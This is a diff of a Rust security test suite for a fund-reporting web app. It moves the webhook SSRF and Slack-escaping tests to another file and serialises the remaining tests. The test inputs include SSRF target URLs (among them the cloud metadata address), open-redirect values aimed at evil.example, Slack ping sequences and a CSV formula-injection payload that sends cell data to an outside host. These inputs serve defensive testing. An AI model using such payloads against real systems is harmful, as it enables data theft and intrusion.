@@ -1,147 +1,21 @@
 //! Issue 12, security hardening: each finding, probed against the real router on its own
-//! PostgreSQL database.
+//! PostgreSQL database. The alert-delivery findings (webhook SSRF, Slack escaping) are in
+//! `security_webhooks.rs`.
 
 mod common;
 
 use axum::http::StatusCode;
-use common::receivers::{WebhookReceiver, SECRET};
-use common::{delivery, replica_with, spawn_with, TestApp};
+use common::{spawn_with, TestApp};
 use serde_json::{json, Value};
 
 const PERIOD: &str = "2026-09-30";
 
-// ---- 1. Server-side request forgery through alert webhooks -------------------------------------
-
-/// A fund with a company, a revenue forecast for PERIOD and a rule that sends breaches by webhook.
-async fn fund_with_webhook_rule(app: &TestApp) -> (String, String) {
-    let fund = app.fund(400).await;
-    let company = app.company(&fund, "Acme Robotics").await;
-    app.forecast(&fund, &company, "REVENUE", PERIOD, "1000000", &common::days_ago(200)).await;
-    let (s, v) = app
-        .post(
-            &format!("/api/funds/{fund}/alert-rules"),
-            json!({"metric": "REVENUE", "comparison": "below", "threshold": "10", "unit": "percent", "severity": "critical", "channels": ["webhook"]}),
-        )
-        .await;
-    assert_eq!(s, StatusCode::CREATED, "{v}");
-    (fund, company)
-}
-
-async fn breach(app: &TestApp, fund: &str, company: &str) {
-    let (s, v) = app
-        .post(
-            &format!("/api/funds/{fund}/actuals"),
-            json!({"company_id": company, "metric": "REVENUE", "value": "500000", "effective_date": chrono::Utc::now().to_rfc3339(), "period": PERIOD}),
-        )
-        .await;
-    assert_eq!(s, StatusCode::CREATED, "{v}");
-}
-
-/// The fund's only webhook delivery, once it is no longer pending.
-async fn settled_webhook_delivery(app: &TestApp, fund: &str) -> Value {
-    let settled = |a: &[Value]| a.iter().filter_map(|a| delivery(a, "webhook")).any(|d| d["status"] == "dead" || d["status"] == "delivered");
-    let alerts = app.wait_for_alerts(fund, 15, settled).await;
-    let webhooks: Vec<&Value> = alerts.iter().filter_map(|a| delivery(a, "webhook")).collect();
-    assert_eq!(webhooks.len(), 1, "{alerts:#?}");
-    webhooks[0].clone()
-}
-
-#[tokio::test]
-async fn webhook_urls_to_non_public_addresses_are_refused_when_saved() {
-    let app = spawn_with(&[("ALERT_WORKER", "false"), ("WEBHOOK_ALLOW_PRIVATE", "false")]).await;
-    let fund = app.fund(10).await;
-    let settings = format!("/api/funds/{fund}/notification-settings");
-    for url in [
-        "http://127.0.0.1:8080/hook",
-        "http://127.9.9.9/hook",
-        "http://[::1]/hook",
-        "http://169.254.169.254/latest/meta-data/",
-        "http://10.0.0.7/hook",
-        "http://172.20.1.1/hook",
-        "http://192.168.1.20/hook",
-        "http://100.64.0.1/hook",
-        "http://[fd00::1]/hook",
-        "http://[fe80::1]/hook",
-        "http://[::ffff:127.0.0.1]/hook",
-        "http://[::ffff:169.254.169.254]/hook",
-        "http://0.0.0.0/hook",
-        "http://224.0.0.1/hook",
-        "http://2130706433/hook",
-        "http://0x7f.0.0.1/hook",
-        "http://localhost:8080/hook",
-        "https://user:secret@8.8.8.8/hook",
-    ] {
-        let (s, v) = app.put(&settings, json!({"webhook_url": url, "webhook_secret": SECRET})).await;
-        assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{url}: {v}");
-        assert_eq!(v["field"], "webhook_url", "{url}: {v}");
-    }
-    let (_, v) = app.get(&settings).await;
-    assert_eq!(v["webhook_url"], Value::Null, "nothing was saved: {v}");
-    let (s, v) = app.put(&settings, json!({"webhook_url": "https://8.8.8.8/hook", "webhook_secret": SECRET})).await;
-    assert_eq!(s, StatusCode::OK, "a public address is accepted: {v}");
-}
-
-/// A URL saved while private addresses were allowed (or whose DNS later changed) is refused again
-/// when the worker connects: nothing reaches the receiver, and the recorded failure names no
-/// address.
-async fn connect_time_refusal(url_of: impl Fn(&WebhookReceiver) -> String) {
-    let hook = WebhookReceiver::start(&[], 200).await;
-    let app = spawn_with(&[("ALERT_WORKER", "false")]).await;
-    let (fund, company) = fund_with_webhook_rule(&app).await;
-    let url = url_of(&hook);
-    let (s, v) = app.put(&format!("/api/funds/{fund}/notification-settings"), json!({"webhook_url": url, "webhook_secret": SECRET})).await;
-    assert_eq!(s, StatusCode::OK, "saved while WEBHOOK_ALLOW_PRIVATE=true: {v}");
-    let _worker = replica_with(&app, &[("WEBHOOK_ALLOW_PRIVATE", "false"), ("ALERT_MAX_ATTEMPTS", "2"), ("ALERT_RETRY_BASE_MS", "20"), ("ALERT_POLL_INTERVAL_MS", "100")]).await;
-    breach(&app, &fund, &company).await;
-    let d = settled_webhook_delivery(&app, &fund).await;
-    assert_eq!(d["status"], "dead", "{d}");
-    assert_eq!(d["attempts"], 2, "{d}");
-    let error = d["last_error"].as_str().unwrap();
-    assert_eq!(error, "webhook refused: the host is not a public address");
-    assert!(hook.received().is_empty(), "nothing reached the loopback receiver");
-}
-
-#[tokio::test]
-async fn a_loopback_ip_saved_earlier_is_refused_when_the_worker_connects() {
-    connect_time_refusal(|hook| hook.url.clone()).await;
-}
-
-#[tokio::test]
-async fn a_host_name_resolving_to_loopback_is_refused_when_the_worker_connects() {
-    connect_time_refusal(|hook| hook.url.replace("127.0.0.1", "localhost")).await;
-}
-
-/// Answers every POST with `307 Temporary Redirect` to `location` (which keeps the method and body).
-async fn redirector(location: String) -> String {
-    let app = axum::Router::new().route(
-        "/hook",
-        axum::routing::post(move || {
-            let location = location.clone();
-            async move { (StatusCode::TEMPORARY_REDIRECT, [("location", location)]) }
-        }),
-    );
-    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
-    let url = format!("http://{}/hook", listener.local_addr().unwrap());
-    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
-    url
-}
-
-#[tokio::test]
-async fn webhook_redirects_are_not_followed_and_count_as_failed_attempts() {
-    let target = WebhookReceiver::start(&[], 200).await;
-    let bouncer = redirector(target.url.clone()).await;
-    let app = spawn_with(&[("ALERT_MAX_ATTEMPTS", "1"), ("ALERT_POLL_INTERVAL_MS", "100")]).await;
-    let (fund, company) = fund_with_webhook_rule(&app).await;
-    let (s, v) = app.put(&format!("/api/funds/{fund}/notification-settings"), json!({"webhook_url": bouncer, "webhook_secret": SECRET})).await;
-    assert_eq!(s, StatusCode::OK, "{v}");
-    breach(&app, &fund, &company).await;
-    let d = settled_webhook_delivery(&app, &fund).await;
-    assert_eq!(d["status"], "dead", "{d}");
-    assert_eq!(d["attempts"], 1);
-    assert!(d["last_error"].as_str().unwrap().contains("307"), "{d}");
-    assert!(d["last_error"].as_str().unwrap().contains("redirects are not followed"), "{d}");
-    tokio::time::sleep(std::time::Duration::from_millis(200)).await;
-    assert!(target.received().is_empty(), "the redirect target got nothing");
+/// The tests of this file run one at a time. Run in parallel (each on its own tokio runtime), a
+/// page request sometimes never answered while another test's runtime shut down on the other
+/// thread; the server itself runs one runtime. See docs/security.md.
+fn one_at_a_time() -> std::sync::MutexGuard<'static, ()> {
+    static SERIAL: std::sync::Mutex<()> = std::sync::Mutex::new(());
+    SERIAL.lock().unwrap_or_else(|poisoned| poisoned.into_inner())
 }
 
 // ---- 2. Dates outside 1900-01-01..=2200-12-31 ----------------------------------------------------
@@ -150,6 +24,7 @@ const OUT_OF_RANGE: [&str; 5] = ["%2B262142-12-31", "-262143-01-01", "1899-12-31
 
 #[tokio::test]
 async fn rest_date_parameters_outside_the_supported_range_get_400_naming_the_field() {
+    let _serial = one_at_a_time();
     let app = spawn_with(&[("ALERT_WORKER", "false")]).await;
     let fund = app.fund(30).await;
     for raw in OUT_OF_RANGE {
@@ -172,6 +47,7 @@ async fn rest_date_parameters_outside_the_supported_range_get_400_naming_the_fie
 
 #[tokio::test]
 async fn dates_in_json_bodies_outside_the_supported_range_are_refused_by_field() {
+    let _serial = one_at_a_time();
     let app = spawn_with(&[("ALERT_WORKER", "false")]).await;
     let fund = app.fund(30).await;
     let company = app.company(&fund, "Acme").await;
@@ -209,6 +85,7 @@ async fn dates_in_json_bodies_outside_the_supported_range_are_refused_by_field()
 
 #[tokio::test]
 async fn pages_and_server_functions_answer_4xx_for_dates_outside_the_range() {
+    let _serial = one_at_a_time();
     let app = spawn_with(&[("ALERT_WORKER", "false")]).await;
     let fund = app.fund(30).await;
     for bad in OUT_OF_RANGE {
@@ -258,6 +135,7 @@ async fn sign_in(app: &TestApp, email: &str, password: &str, next: &str) -> (Sta
 
 #[tokio::test]
 async fn sign_in_only_follows_next_to_a_same_origin_path() {
+    let _serial = one_at_a_time();
     let app = spawn_with(&[("ALERT_WORKER", "false")]).await;
     for next in ["/\t/evil.example", "/\n/evil.example", "//evil.example", "/\\evil.example", "https://evil.example/", "/ok\\..\\x", "evil.example"] {
         let (s, location) = sign_in(&app, "owner@test.local", common::PASSWORD, next).await;
@@ -300,6 +178,7 @@ fn assert_common_headers(h: &axum::http::HeaderMap, what: &str) {
 
 #[tokio::test]
 async fn pages_and_api_answers_carry_security_headers_also_from_the_page_cache() {
+    let _serial = one_at_a_time();
     use base64::Engine;
     use sha2::Digest;
     let app = spawn_with(&[("ALERT_WORKER", "false")]).await;
@@ -339,6 +218,7 @@ async fn pages_and_api_answers_carry_security_headers_also_from_the_page_cache()
 
 #[tokio::test]
 async fn share_pages_send_no_referrer_and_are_not_stored() {
+    let _serial = one_at_a_time();
     let app = spawn_with(&[("ALERT_WORKER", "false")]).await;
     let fund = app.fund(30).await;
     let form = format!("fund_id={fund}&tab=overview");
@@ -356,6 +236,7 @@ async fn share_pages_send_no_referrer_and_are_not_stored() {
 
 #[tokio::test]
 async fn company_names_in_the_variance_export_cannot_run_as_formulas() {
+    let _serial = one_at_a_time();
     let app = spawn_with(&[("ALERT_WORKER", "false")]).await;
     let fund = app.fund(400).await;
     let evil = r#"=HYPERLINK("https://x/?"&B2,"x")"#;
@@ -417,6 +298,7 @@ fn split_csv_line(line: &str) -> Vec<String> {
 
 #[tokio::test]
 async fn a_viewer_capped_token_never_gets_the_admins_cached_page() {
+    let _serial = one_at_a_time();
     let app = spawn_with(&[("ALERT_WORKER", "false")]).await;
     let fund = app.fund(30).await;
     let (_, viewer_token) = app.store.create_api_token(app.owner.id, "read only", domain::access::Role::Viewer).await.unwrap();
@@ -437,6 +319,7 @@ async fn a_viewer_capped_token_never_gets_the_admins_cached_page() {
 
 #[tokio::test]
 async fn parallel_wrong_passwords_cannot_exceed_the_account_limit() {
+    let _serial = one_at_a_time();
     let app = std::sync::Arc::new(spawn_with(&[("ALERT_WORKER", "false"), ("PASSWORD_HASH_CONCURRENCY", "64")]).await);
     let attempts = (0..20).map(|_| {
         let app = app.clone();
@@ -461,6 +344,7 @@ async fn parallel_wrong_passwords_cannot_exceed_the_account_limit() {
 
 #[tokio::test]
 async fn sign_ins_beyond_the_password_check_bound_get_503_with_retry_after() {
+    let _serial = one_at_a_time();
     let app = std::sync::Arc::new(spawn_with(&[("ALERT_WORKER", "false"), ("PASSWORD_HASH_CONCURRENCY", "1")]).await);
     let attempts: Vec<_> = (0..8)
         .map(|i| {
@@ -508,6 +392,7 @@ async fn failed_sign_in_address(env: &[(&str, &str)], forwarded_for: &str) -> St
 
 #[tokio::test]
 async fn the_client_address_is_taken_the_trusted_hops_from_the_right_of_x_forwarded_for() {
+    let _serial = one_at_a_time();
     // The client wrote "6.6.6.6" itself; the one proxy appended the address it really saw.
     assert_eq!(failed_sign_in_address(&[], "6.6.6.6, 203.0.113.7").await, "203.0.113.7");
     assert_eq!(failed_sign_in_address(&[("TRUSTED_PROXY_HOPS", "2")], "6.6.6.6, 198.51.100.2, 203.0.113.7").await, "198.51.100.2");
@@ -517,6 +402,7 @@ async fn the_client_address_is_taken_the_trusted_hops_from_the_right_of_x_forwar
 
 #[tokio::test]
 async fn a_viewer_capped_token_cannot_create_funds() {
+    let _serial = one_at_a_time();
     let app = spawn_with(&[("ALERT_WORKER", "false")]).await;
     let (_, viewer) = app.store.create_api_token(app.owner.id, "read only", domain::access::Role::Viewer).await.unwrap();
     let (_, analyst) = app.store.create_api_token(app.owner.id, "writer", domain::access::Role::Analyst).await.unwrap();
@@ -547,6 +433,7 @@ async fn read_shared(app: &TestApp, path: &str) -> String {
 
 #[tokio::test]
 async fn share_links_check_the_stored_expiry_and_do_not_show_the_creators_email() {
+    let _serial = one_at_a_time();
     let app = spawn_with(&[("ALERT_WORKER", "false")]).await;
     let fund = app.fund(30).await;
     let path = share_link(&app, &fund).await;
@@ -561,6 +448,7 @@ async fn share_links_check_the_stored_expiry_and_do_not_show_the_creators_email(
 
 #[tokio::test]
 async fn a_rotated_share_key_keeps_verifying_links_until_they_can_no_longer_be_valid() {
+    let _serial = one_at_a_time();
     let app = spawn_with(&[("ALERT_WORKER", "false")]).await;
     let fund = app.fund(30).await;
     let old = share_link(&app, &fund).await;
@@ -576,40 +464,6 @@ async fn a_rotated_share_key_keeps_verifying_links_until_they_can_no_longer_be_v
     assert!(read_shared(&app, &new).await.contains(r#"data-test="shared-report""#));
 }
 
-// ---- 12. Slack control sequences in names -----------------------------------------------------------
-
-#[tokio::test]
-async fn company_and_fund_names_cannot_ping_a_slack_channel() {
-    let hook = WebhookReceiver::start(&[], 200).await;
-    let app = spawn_with(&[("ALERT_POLL_INTERVAL_MS", "100")]).await;
-    let (s, v) = app.post("/api/funds", json!({"name": "Fund <!channel> & Co", "size": "100000000", "effective_at": common::days_ago(400)})).await;
-    assert_eq!(s, StatusCode::CREATED, "{v}");
-    let fund = v["id"].as_str().unwrap().to_string();
-    let company = app.company(&fund, "<!here> <https://evil.example|Acme>").await;
-    app.forecast(&fund, &company, "REVENUE", PERIOD, "1000000", &common::days_ago(200)).await;
-    let (s, v) = app
-        .post(
-            &format!("/api/funds/{fund}/alert-rules"),
-            json!({"metric": "REVENUE", "comparison": "below", "threshold": "10", "unit": "percent", "severity": "critical", "channels": ["webhook"]}),
-        )
-        .await;
-    assert_eq!(s, StatusCode::CREATED, "{v}");
-    let (s, v) = app.put(&format!("/api/funds/{fund}/notification-settings"), json!({"webhook_url": hook.url, "webhook_secret": SECRET})).await;
-    assert_eq!(s, StatusCode::OK, "{v}");
-    breach(&app, &fund, &company).await;
-    assert_eq!(settled_webhook_delivery(&app, &fund).await["status"], "delivered");
-    let body = hook.received()[0].body.clone();
-    let mut mrkdwn = vec![body["text"].as_str().unwrap().to_string()];
-    for block in body["blocks"].as_array().unwrap() {
-        for f in block["fields"].as_array().into_iter().flatten().chain(block["elements"].as_array().into_iter().flatten()) {
-            mrkdwn.push(f["text"].as_str().unwrap().to_string());
-        }
-    }
-    let all = mrkdwn.join("\n");
-    assert!(!all.contains('<') && !all.contains('>'), "no Slack control sequence survives: {all}");
-    assert!(all.contains("&lt;!channel&gt; &amp; Co") && all.contains("&lt;!here&gt;"), "{all}");
-}
-
 // ---- 15. /metrics only for the scraper; 401s name their scheme --------------------------------------
 
 fn metrics_req(bearer: Option<&str>, peer: Option<&str>) -> axum::http::Request<axum::body::Body> {
@@ -622,6 +476,7 @@ fn metrics_req(bearer: Option<&str>, peer: Option<&str>) -> axum::http::Request<
 
 #[tokio::test]
 async fn metrics_need_the_metrics_token_or_a_loopback_peer() {
+    let _serial = one_at_a_time();
     let app = spawn_with(&[("ALERT_WORKER", "false"), ("METRICS_TOKEN", "scrape-secret-123")]).await;
     for (bearer, peer) in [(None, Some("127.0.0.1:5000")), (Some(app.token.as_str()), None), (Some("wrong"), None)] {
         let (s, h, _) = raw(&app, metrics_req(bearer, peer)).await;
